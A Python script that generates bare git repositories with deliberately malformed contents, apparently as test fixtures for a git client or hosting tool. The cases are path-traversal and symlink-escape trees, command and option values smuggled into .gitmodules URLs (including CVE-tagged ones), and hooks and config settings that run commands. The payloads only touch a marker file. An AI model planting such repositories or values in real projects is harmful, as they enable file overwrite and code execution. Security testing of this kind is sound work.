#!/usr/bin/env python3
"""Hostile repositories, object by object, as git itself would not write them.

	hostile_repos.py FOLDER		makes FOLDER/NAME.git and prints "NAME COMMIT" for each
"""
import hashlib
import os
import sys
import zlib

top = sys.argv[1]


class Repository:
	def __init__(self, name):
		self.name, self.dir = name, f"{top}/{name}.git"
		for folder in ("objects/info", "objects/pack", "refs/heads"):
			os.makedirs(f"{self.dir}/{folder}")
		self.write("HEAD", "ref: refs/heads/main\n")
		self.write("config", "[core]\n\trepositoryformatversion = 0\n\tbare = true\n")
		self.file = self.put("blob", b"hello\n")

	def write(self, path, text, mode="w"):
		with open(f"{self.dir}/{path}", mode) as f:
			f.write(text)

	def put(self, kind, data):
		raw = f"{kind} {len(data)}\0".encode() + data
		name = hashlib.sha1(raw).hexdigest()
		os.makedirs(f"{self.dir}/objects/{name[:2]}", exist_ok=True)
		with open(f"{self.dir}/objects/{name[:2]}/{name[2:]}", "wb") as f:
			f.write(zlib.compress(raw))
		return name

	def tree(self, *entries):
		return self.put("tree", b"".join(f"{mode} {name}\0".encode() + bytes.fromhex(id)
						 for mode, name, id in entries))

	def link(self, target):
		return self.put("blob", target.encode())

	def commit(self, tree):
		who = "x <x@example.org> 1 +0000"
		id = self.put("commit", f"tree {tree}\nauthor {who}\ncommitter {who}\n\nx\n".encode())
		self.write("refs/heads/main", id + "\n")
		print(self.name, id)


def dot_git(r):
	return r.tree(("40000", ".GIT", r.tree(("100644", "config", r.file))))


def dot_dot(r):
	return r.tree(("40000", "..", r.tree(("100644", "evil", r.file))))


def slash(r):
	return r.tree(("100644", "../evil", r.file))


def backslash(r):
	return r.tree(("100644", "a\\..\\evil", r.file))


def injected_line(r):	# the child that clones speaks in lines
	return r.tree(("100644", f"x\ndone {'1' * 40} {'1' * 40}", r.file))


def link_and_folder(r):	# CVE-2021-21300: a file written through a link of the same name
	return r.tree(("120000", "a", r.link("../..")), ("40000", "a", r.tree(("100644", "evil", r.file))))


def link_over_folder(r):
	return r.tree(("120000", "a", r.link(".")), ("40000", "a", r.tree(("100644", "evil", r.file))))


def link_through_link(r):	# each stays in the tree by its letters, together they leave it
	return r.tree(("120000", "s", r.link(".")), ("120000", "t", r.link("s/s/s/../../../etc")))


def link_absolute(r):
	return r.tree(("120000", "a", r.link("/etc/passwd")))


def gitmodules_link(r):
	return r.tree(("120000", ".gitmodules", r.link("m")), ("100644", "m", r.file))


def modules(text):
	return lambda r: r.tree(("100644", ".gitmodules", r.put("blob", text.encode())),
				("160000", "sub", "1" * 40))


def section(name="s", path="sub", url="/nowhere"):
	return f'[submodule "{name}"]\n\tpath = {path}\n\turl = {url}\n'


def deep(r):
	tree = r.tree(("100644", "f", r.file))
	for _ in range(100):
		tree = r.tree(("40000", "d", tree))
	return tree


def setuid(r):
	return r.tree(("104755", "a", r.file))


def missing_object(r):
	return r.tree(("40000", "d", "2" * 40))


def wrong_kind(r):
	return r.tree(("40000", "d", r.file))


def other_content(r):	# an object that is not what its name says
	r.write(f"objects/{r.file[:2]}/{r.file[2:]}", zlib.compress(b"blob 5\0evil\n"), "wb")
	return r.tree(("100644", "a", r.file))


def borrowed(r):
	r.write("objects/info/alternates", f"{top}/deep.git/objects\n")
	return r.tree(("100644", "a", r.file))


def own_programs(r):	# hooks and settings of the source repository that name programs
	os.makedirs(f"{r.dir}/hooks")
	for hook in ("post-checkout", "post-upload-pack", "reference-transaction", "pre-receive"):
		r.write("hooks/" + hook, f"#!/bin/sh\ntouch {top}/ran\n")
		os.chmod(f"{r.dir}/hooks/{hook}", 0o755)
	r.write("config", f"[uploadpack]\n\tpackObjectsHook = touch {top}/ran\n[core]\n"
		f"\tfsmonitor = touch {top}/ran\n\tsshCommand = touch {top}/ran\n", "a")
	return r.tree(("100644", "a", r.file))


CASES = {
	"dot-git": dot_git, "dot-dot": dot_dot, "slash": slash, "backslash": backslash,
	"injected-line": injected_line, "link-and-folder": link_and_folder,
	"link-over-folder": link_over_folder, "link-through-link": link_through_link,
	"link-absolute": link_absolute, "gitmodules-link": gitmodules_link,
	"name-traversal": modules(section(name="../../hooks")),	# CVE-2018-11235
	"path-dot-git": modules(section(path=".git/hooks")),
	"path-return": modules(section(path='"sub\r"')),	# CVE-2025-48384
	"url-dash": modules(section(url="-u./payload")),	# CVE-2018-17456
	"url-ssh": modules(section(url="ssh://-oProxyCommand=x/y")),	# CVE-2017-1000117
	"url-ext": modules(section(url="ext::sh -c x")),
	"include": modules("[include]\n\tpath = /etc/passwd\n" + section()),
	"deep": deep, "setuid": setuid, "missing-object": missing_object,
	"wrong-kind": wrong_kind, "other-content": other_content, "borrowed": borrowed,
	"own-programs": own_programs,
}
for name, make in CASES.items():
	repository = Repository(name)
	repository.commit(make(repository))
